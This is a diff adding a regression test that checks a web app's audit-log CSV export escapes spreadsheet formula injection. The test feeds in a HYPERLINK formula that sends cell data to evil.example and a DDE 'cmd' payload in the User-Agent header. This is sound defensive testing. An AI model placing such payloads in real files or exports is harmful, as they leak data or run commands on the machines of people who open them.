@@ -26,3 +26,40 @@ def test_an_unknown_export_format_exports_and_records_nothing(client, people, db
     sign_in(client, people("auditor2", "auditor"), db)
     assert client.get("/audit/export?format=xml").status_code == 422
     assert db.execute(text("SELECT count(*) FROM audit.events WHERE action = 'audit.exported'")).scalar_one() == 0
+
+
+def test_a_user_name_typed_as_a_formula_is_text_in_the_console_csv(committed_db, redis_db):
+    """Issue 16: `=HYPERLINK(...)` typed at sign-in became an actor_name cell a spreadsheet would run.
+
+    A committed database: the console seals the trail before exporting, and sealing sees only
+    committed events."""
+    import csv
+    import io
+
+    from alerting.accounts import create_operator, decrypt_totp
+    from alerting.db import bind_sessions, engine, transaction, utcnow
+    from alerting.web import create_app
+    from audit.actor import Actor
+    from tests.web.conftest import PASSWORD, Person, csrf_of
+
+    bind_sessions(engine(), join_transaction_mode="conditional_savepoint")
+    key = committed_db.secret_key()
+    with transaction() as db:
+        new = create_operator(db, "auditora3", ["auditor"], key, Actor.system("test"), password=PASSWORD)
+        new.operator.totp_enrolled_at = utcnow()
+        auditor = Person(new.operator, PASSWORD, decrypt_totp(new.operator.totp_secret_enc, key))
+    app = create_app(committed_db, configure_services=False)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    stranger = app.test_client()
+    token = csrf_of(stranger, "/login")
+    stranger.post("/login", data={"csrf_token": token, "username": formula, "password": "whatever it is"},
+                  headers={"User-Agent": "-cmd|' /C calc'!A0"})
+    client = app.test_client()
+    sign_in(client, auditor)
+    r = client.get("/audit/export?format=csv")
+    assert r.status_code == 200 and r.mimetype == "text/csv"
+    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True), newline="")))
+    refused = [row for row in rows if row["actor_name"].endswith(formula)]
+    assert refused and refused[0]["actor_name"] == "'" + formula
+    assert refused[0]["origin_user_agent"] == "'-cmd|' /C calc'!A0"
+    assert not [c for row in rows for c in row.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
